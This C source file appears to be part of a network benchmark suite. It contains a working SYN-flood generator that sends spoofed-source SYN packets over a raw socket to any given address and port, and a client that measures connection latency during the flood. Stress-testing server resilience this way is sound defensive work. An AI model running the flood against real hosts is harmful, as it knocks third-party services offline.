/*
 * The SYN-flood benchmark's two programs (RFC 4987 2: the attack; the suite's "synflood" part):
 *
 *   syn_flood flood DST_IP PORT SECONDS SRC_PREFIX
 *       Sends spoofed SYNs to DST_IP:PORT from a raw socket as fast as one thread can for SECONDS:
 *       65 536 prebuilt IPv4/TCP SYNs with sources SRC_PREFIX.10-250 (SRC_PREFIX is the first three
 *       octets, "10.7.0"), random source ports and sequence numbers, and the options a Linux
 *       client sends (MSS 1460, SACK-permitted, timestamps, NOP, window scale 7), handed to the
 *       kernel 64 at a time with sendmmsg. Prints "flooding" when it starts and at the end
 *       "result sent=N refused=M seconds=S rate=R" (refused: sends the kernel turned down, ENOBUFS).
 *
 *   syn_flood client DST_IP PORT SECONDS
 *       Opens a connection, writes 128 bytes, reads them back, closes, in a loop for SECONDS; a
 *       connection that fails, or takes more than 10 s to open or to echo, is a failure. Prints
 *       "result attempted=N succeeded=M failed=F seconds=S connect_us p50=.. p99=.. max=.." (the
 *       time connect() took, in microseconds) and each failure's reason on stderr.
 *
 * Build: gcc -O2 -o syn_flood syn_flood.c   (the benchmark suite compiles it into benchmarks/target).
 * It needs CAP_NET_RAW for flood; the suite runs it inside its own network namespace.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <time.h>
#include <unistd.h>

#define PACKETS 65536
#define BATCH 64
#define IP_LEN 20
#define TCP_LEN 40 /* 20 + MSS 4 + SACK-permitted 2 + timestamps 10 + NOP 1 + window scale 3 */
#define PKT_LEN (IP_LEN + TCP_LEN)
#define ECHO_BYTES 128

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint32_t next_random(void) {
    /* xorshift64*: enough to scatter ports and sequence numbers */
    rng ^= rng >> 12;
    rng ^= rng << 25;
    rng ^= rng >> 27;
    return (uint32_t) ((rng * 0x2545f4914f6cdd1dULL) >> 32);
}

static void put16(uint8_t *p, uint16_t v) {
    p[0] = v >> 8;
    p[1] = v & 0xff;
}

static void put32(uint8_t *p, uint32_t v) {
    put16(p, v >> 16);
    put16(p + 2, v & 0xffff);
}

/* The Internet checksum (RFC 1071) over the pseudo header (RFC 9293 3.1) and the TCP segment. */
static uint16_t tcp_checksum(const uint8_t *src, const uint8_t *dst, const uint8_t *tcp, int len) {
    uint32_t sum = 0;
    for (int i = 0; i < 4; i += 2) {
        sum += (src[i] << 8) | src[i + 1];
        sum += (dst[i] << 8) | dst[i + 1];
    }
    sum += 6 + len;
    for (int i = 0; i + 1 < len; i += 2) {
        sum += (tcp[i] << 8) | tcp[i + 1];
    }
    while (sum >> 16) {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    return (uint16_t) ~sum;
}

static int flood(const char *dst_ip, int port, double seconds, const char *prefix) {
    struct in_addr dst;
    if (inet_pton(AF_INET, dst_ip, &dst) != 1) {
        fprintf(stderr, "bad address %s\n", dst_ip);
        return 2;
    }
    unsigned a, b, c;
    if (sscanf(prefix, "%u.%u.%u", &a, &b, &c) != 3) {
        fprintf(stderr, "bad source prefix %s (want three octets, like 10.7.0)\n", prefix);
        return 2;
    }
    uint8_t *pkts = malloc((size_t) PACKETS * PKT_LEN);
    if (pkts == NULL) {
        perror("malloc");
        return 1;
    }
    for (int i = 0; i < PACKETS; i++) {
        uint8_t *ip = pkts + (size_t) i * PKT_LEN;
        uint8_t *tcp = ip + IP_LEN;
        memset(ip, 0, PKT_LEN);
        ip[0] = 0x45;
        put16(ip + 2, PKT_LEN);
        put16(ip + 4, (uint16_t) i);
        ip[8] = 64;
        ip[9] = 6;
        uint8_t src[4] = {(uint8_t) a, (uint8_t) b, (uint8_t) c, (uint8_t) (10 + next_random() % 241)};
        memcpy(ip + 12, src, 4);
        memcpy(ip + 16, &dst, 4);
        /* the IPv4 header checksum is filled in by the kernel (raw socket, IP_HDRINCL) */
        put16(tcp, (uint16_t) (1024 + next_random() % 64512));
        put16(tcp + 2, (uint16_t) port);
        put32(tcp + 4, next_random());
        tcp[12] = (TCP_LEN / 4) << 4;
        tcp[13] = 0x02; /* SYN */
        put16(tcp + 14, 64240);
        uint8_t *o = tcp + 20;
        o[0] = 2; o[1] = 4; put16(o + 2, 1460);           /* MSS */
        o[4] = 4; o[5] = 2;                               /* SACK-permitted */
        o[6] = 8; o[7] = 10; put32(o + 8, next_random()); /* timestamps: TSval, TSecr 0 */
        o[16] = 1;                                        /* NOP */
        o[17] = 3; o[18] = 3; o[19] = 7;                  /* window scale 7 */
        put16(tcp + 16, tcp_checksum(src, (uint8_t *) &dst, tcp, TCP_LEN));
    }
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    if (s < 0) {
        perror("socket(SOCK_RAW) (needs CAP_NET_RAW)");
        return 1;
    }
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    struct mmsghdr msgs[BATCH];
    struct iovec iov[BATCH];
    memset(msgs, 0, sizeof msgs);
    for (int i = 0; i < BATCH; i++) {
        msgs[i].msg_hdr.msg_name = &to;
        msgs[i].msg_hdr.msg_namelen = sizeof to;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        iov[i].iov_len = PKT_LEN;
    }
    printf("flooding %s:%d from %s.10-250 for %.1f s\n", dst_ip, port, prefix, seconds);
    fflush(stdout);
    unsigned long long sent = 0, refused = 0;
    size_t next = 0;
    double start = now(), end = start + seconds, t = start;
    while (t < end) {
        for (int i = 0; i < BATCH; i++) {
            iov[i].iov_base = pkts + ((next + i) % PACKETS) * PKT_LEN;
        }
        int n = sendmmsg(s, msgs, BATCH, 0);
        if (n < 0) {
            if (errno != ENOBUFS && errno != EAGAIN) {
                perror("sendmmsg");
                return 1;
            }
            refused++; /* the first message of the batch; the loop tries the rest again */
            n = 1;
        } else {
            sent += (unsigned) n;
        }
        next += (unsigned) n;
        t = now();
    }
    double secs = t - start;
    printf("result sent=%llu refused=%llu seconds=%.3f rate=%.0f\n", sent, refused, secs, sent / secs);
    close(s);
    free(pkts);
    return 0;
}

static int cmp_double(const void *x, const void *y) {
    double a = *(const double *) x, b = *(const double *) y;
    return a < b ? -1 : a > b;
}

/* One connection: open, echo ECHO_BYTES, close. Returns 0, or -1 with the reason in why. */
static int one_connection(const struct sockaddr_in *to, double *connect_us, const char **why) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0) {
        *why = "socket";
        return -1;
    }
    struct timeval tv = {.tv_sec = 10};
    setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof tv); /* bounds connect() too */
    setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    double t0 = now();
    if (connect(s, (const struct sockaddr *) to, sizeof *to) < 0) {
        *why = errno == EINPROGRESS ? "connect timed out (10 s)" : strerror(errno);
        close(s);
        return -1;
    }
    *connect_us = (now() - t0) * 1e6;
    char out[ECHO_BYTES], in[ECHO_BYTES];
    for (int i = 0; i < ECHO_BYTES; i++) {
        out[i] = (char) ('a' + i % 26);
    }
    if (write(s, out, sizeof out) != (ssize_t) sizeof out) {
        *why = "write";
        close(s);
        return -1;
    }
    size_t got = 0;
    while (got < sizeof in) {
        ssize_t n = read(s, in + got, sizeof in - got);
        if (n <= 0) {
            *why = n == 0 ? "closed before the echo" : "read (timed out after 10 s?)";
            close(s);
            return -1;
        }
        got += (size_t) n;
    }
    close(s);
    if (memcmp(in, out, sizeof in) != 0) {
        *why = "echo differs";
        return -1;
    }
    return 0;
}

static int client(const char *dst_ip, int port, double seconds) {
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t) port)};
    if (inet_pton(AF_INET, dst_ip, &to.sin_addr) != 1) {
        fprintf(stderr, "bad address %s\n", dst_ip);
        return 2;
    }
    size_t cap = 1 << 16, n = 0;
    double *times = malloc(cap * sizeof *times);
    unsigned long attempted = 0, failed = 0;
    double start = now(), end = start + seconds;
    while (now() < end) {
        double us;
        const char *why = NULL;
        attempted++;
        if (one_connection(&to, &us, &why) < 0) {
            failed++;
            fprintf(stderr, "fail %s\n", why);
            continue;
        }
        if (n == cap) {
            cap *= 2;
            times = realloc(times, cap * sizeof *times);
        }
        times[n++] = us;
    }
    double secs = now() - start;
    qsort(times, n, sizeof *times, cmp_double);
    double p50 = n ? times[n / 2] : 0, p99 = n ? times[(size_t) (n * 0.99)] : 0, max = n ? times[n - 1] : 0;
    printf("result attempted=%lu succeeded=%zu failed=%lu seconds=%.3f connect_us p50=%.0f p99=%.0f max=%.0f\n",
           attempted, n, failed, secs, p50, p99, max);
    free(times);
    return 0;
}

int main(int argc, char **argv) {
    if (argc == 6 && strcmp(argv[1], "flood") == 0) {
        return flood(argv[2], atoi(argv[3]), atof(argv[4]), argv[5]);
    }
    if (argc == 5 && strcmp(argv[1], "client") == 0) {
        return client(argv[2], atoi(argv[3]), atof(argv[4]));
    }
    fprintf(stderr, "usage: syn_flood flood DST_IP PORT SECONDS SRC_PREFIX | client DST_IP PORT SECONDS\n");
    return 2;
}
